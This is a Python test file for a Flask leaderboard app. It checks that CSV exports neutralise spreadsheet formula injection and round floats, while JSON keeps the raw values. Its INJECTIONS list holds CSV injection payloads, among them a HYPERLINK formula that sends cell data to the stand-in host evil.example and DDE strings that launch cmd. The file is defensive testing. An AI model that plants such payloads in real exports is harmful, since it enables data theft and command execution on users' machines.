"""CSV for people: formula-like text neutralised, floats rounded; JSON kept raw and precise."""

from __future__ import annotations

import csv
import io
import json
import math

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from arena.extensions import db
from arena.leaderboard.csvsafe import csv_cell
from arena.leaderboard.exports import CSV_DECIMALS
from arena.models import Battle, Model, Prompt, Response, Vote
from tests.support.leaderboard_data import add_models, add_votes

#: Cells a spreadsheet would run, one per dangerous first character (OWASP's list).
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: A carriage return inside a text: the cell must be quoted, or a reader ends the row there and
#: the rest (a formula) starts a line of its own.
INSIDE = "a note\r=1+1"
PROMPTS = [*INJECTIONS, INSIDE]
MODELS = {"alpha:1b": 1.0, "@beta:3b": 3.0, "gamma": None}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (-1, -1),  # numbers stay numbers, negative ones too
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


@pytest.fixture
def injected(app: Flask) -> Flask:
    add_models(app, MODELS)
    with app.app_context():
        prompts = [
            Prompt(text=text, text_hash=f"injection-{n}", category="coding", source="import")
            for n, text in enumerate(PROMPTS)
        ]
        db.session.add_all(prompts)
        db.session.flush()
        prompt_ids = [p.id for p in prompts]
        db.session.execute(
            update(Model).where(Model.tag == "alpha:1b").values(display_name=INJECTIONS[0])
        )
        db.session.commit()
    pairs = [("alpha:1b", "@beta:3b", "a"), ("gamma", "alpha:1b", "tie")]
    ids = add_votes(app, [pairs[n % 2] for n in range(len(PROMPTS))])
    with app.app_context():
        for vote_id, prompt_id in zip(ids, prompt_ids, strict=True):
            db.session.execute(update(Vote).where(Vote.id == vote_id).values(prompt_id=prompt_id))
        db.session.commit()
    return app


def test_vote_csv_neutralises_formulas_and_jsonl_keeps_them(
    client: FlaskClient, injected: Flask
) -> None:
    text = client.get("/api/votes.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["prompt"] for row in rows] == [*("'" + value for value in INJECTIONS), INSIDE]
    assert f'"{INSIDE}"' in text
    assert {row["model_b"] for row in rows[::2]} == {"'@beta:3b"}
    assert all(not row["vote_id"].startswith("'") and int(row["vote_id"]) > 0 for row in rows)
    lines = client.get("/api/votes.jsonl").get_data(as_text=True).splitlines()
    records = [json.loads(line) for line in lines]
    assert [record["prompt"] for record in records] == PROMPTS
    assert {record["model_b"] for record in records[::2]} == {"@beta:3b"}
    assert all(isinstance(record["vote_id"], int) for record in records)


def test_leaderboard_csv_neutralises_names_and_rounds_floats(
    client: FlaskClient, injected: Flask
) -> None:
    document = client.get("/api/leaderboard.json").get_json()
    by_model = {row["model"]: row for row in document["models"]}
    assert by_model["alpha:1b"]["display_name"] == INJECTIONS[0]  # JSON: raw
    text = client.get("/api/leaderboard.csv").get_data(as_text=True)
    rows = {row["model"]: row for row in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"alpha:1b", "'@beta:3b", "gamma"}
    assert rows["alpha:1b"]["display_name"] == "'" + INJECTIONS[0]
    rows[by_model["@beta:3b"]["model"]] = rows.pop("'@beta:3b")
    rounded = 0
    for model, record in by_model.items():
        for name, places in CSV_DECIMALS.items():
            value, cell = record[name], rows[model][name]
            if value is None:
                assert cell == ""
                continue
            assert float(cell) == round(value, places), (model, name)
            decimals = cell.partition(".")[2]
            assert len(decimals) <= places, (model, name, cell)
            rounded += not math.isclose(float(cell), value, rel_tol=0, abs_tol=0)
    assert rounded > 0  # JSON carries the full precision the CSV rounds away
    for model in by_model:
        assert rows[model]["rank"].isdigit() and rows[model]["battles"].isdigit()


def test_battle_ids_stay_as_they_are(client: FlaskClient, injected: Flask) -> None:
    """A battle id is a URL-safe token that may start with '-': it stays joinable."""
    with injected.app_context():
        vote = db.session.scalars(select(Vote).order_by(Vote.id)).first()
        assert vote is not None and vote.prompt_id is not None
        sides = [
            Response(prompt_id=vote.prompt_id, model_id=model_id, text="An answer.")
            for model_id in (vote.model_a_id, vote.model_b_id)
        ]
        db.session.add_all(sides)
        db.session.flush()
        db.session.add(
            Battle(
                id="-dash_Id0",
                prompt_id=vote.prompt_id,
                left_response_id=sides[0].id,
                right_response_id=sides[1].id,
                voter="someone",
            )
        )
        db.session.flush()
        vote.battle_id = "-dash_Id0"
        db.session.commit()
    text = client.get("/api/votes.csv?answers=1").get_data(as_text=True)
    first = next(csv.DictReader(io.StringIO(text, newline="")))
    assert first["battle_id"] == "-dash_Id0"
    assert first["answer_a"] == "An answer."
